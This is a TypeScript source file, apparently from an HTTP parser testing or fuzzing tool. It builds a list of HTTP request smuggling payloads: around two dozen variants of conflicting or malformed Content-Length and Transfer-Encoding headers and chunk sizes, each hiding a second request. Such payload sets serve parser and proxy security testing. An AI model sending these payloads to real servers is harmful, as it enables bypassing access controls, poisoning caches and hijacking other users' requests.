// Requests with an ambiguous length that hide a second request.
import { lines } from './raw.ts';

/** Pairs of a title and a request. `head` starts the request; `hidden` is a complete request inside it. */
export function listSmuggling(head: readonly string[], hidden: string): [string, string][] {
  const chunked = `0\r\n\r\n${hidden}`;
  const length = (text: string) => `Content-Length: ${Buffer.byteLength(text)}`;
  const inChunk = `${Buffer.byteLength(hidden).toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
  const te = 'Transfer-Encoding: chunked';
  const cases: [string, readonly string[], string][] = [
    ['CL.TE', [length(chunked), te], chunked],
    ['TE.CL', [te, 'Content-Length: 4'], inChunk],
    ['TE.TE, the second unknown', [te, 'Transfer-Encoding: x'], chunked],
    ['TE.TE, in one line', ['Transfer-Encoding: chunked, identity'], chunked],
    ['TE with a blank before the colon', ['Transfer-Encoding : chunked', length(chunked)], chunked],
    ['TE with a tab', ['Transfer-Encoding:\tchunked', length(chunked)], chunked],
    ['TE with a vertical tab', ['Transfer-Encoding: \vchunked', length(chunked)], chunked],
    ['TE in quotation marks', ['Transfer-Encoding: "chunked"', length(chunked)], chunked],
    ['TE of a long word', ['Transfer-Encoding: xchunked', length(chunked)], chunked],
    ['a folded TE', ['Transfer-Encoding:', ' chunked', length(chunked)], chunked],
    ['a folded other header', ['X-A: b', ' c: d', length(hidden)], hidden],
    ['two lengths', ['Content-Length: 0', length(hidden)], hidden],
    ['two lengths in one line', [`Content-Length: 0, ${Buffer.byteLength(hidden)}`], hidden],
    ['a signed length', ['Content-Length: +0'], hidden],
    ['a hexadecimal length', ['Content-Length: 0x0'], hidden],
    ['a negative length', ['Content-Length: -1'], hidden],
    ['a length with a blank inside', ['Content-Length: 0 0'], hidden],
    ['an empty length', ['Content-Length:'], hidden],
    ['a chunk of a signed size', [te], `-1\r\n${hidden}\r\n0\r\n\r\n`],
    ['a chunk of a size with 0x', [te], `0x0\r\n\r\n${hidden}`],
    ['a chunk that ends in a bare LF', [te], `0\n\n${hidden}`],
    ['a NUL in a header', ['X-A: b\0c', length(hidden)], hidden],
    ['a bare CR in a header', ['X-A: b\rTransfer-Encoding: chunked', length(chunked)], chunked],
  ];
  return [
    ...cases.map(([title, more, body]): [string, string] => [
      title,
      `${lines(...head, ...more)}\r\n\r\n${body}`,
    ]),
    ['bare LF throughout', `${[...head, length(hidden)].join('\n')}\n\n${hidden}`],
  ];
}
